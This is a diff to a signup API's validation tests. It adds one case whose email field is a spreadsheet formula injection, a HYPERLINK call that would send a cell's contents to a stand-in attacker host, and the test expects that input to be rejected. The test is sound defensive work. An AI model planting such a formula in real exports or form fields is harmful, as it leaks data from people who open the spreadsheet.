@@ -72,6 +72,7 @@ describe('POST /api/auth/signup/', () => {
     ['a missing name', { name: undefined }, { name: [messages.signup.name] }],
     ['a name starting with a digit', { name: '9lives' }, { name: [messages.signup.name] }],
     ['a malformed email', { email: 'kofi@example' }, { email: [messages.signup.email] }],
+    ['an email no mail system delivers, that a spreadsheet would run', { email: '=HYPERLINK("http://evil.example/?"&A2)&@x.co' }, { email: [messages.signup.email] }],
     ['a password without a symbol', { password: 'Laundry2026', password2: 'Laundry2026' }, { password: [messages.signup.password] }],
     ['a password with a symbol outside @$!%*?&', { password: 'Laundry#2026', password2: 'Laundry#2026' }, { password: [messages.signup.password] }],
     ['a password shorter than 8', { password: 'La@2026', password2: 'La@2026' }, { password: [messages.signup.password] }],
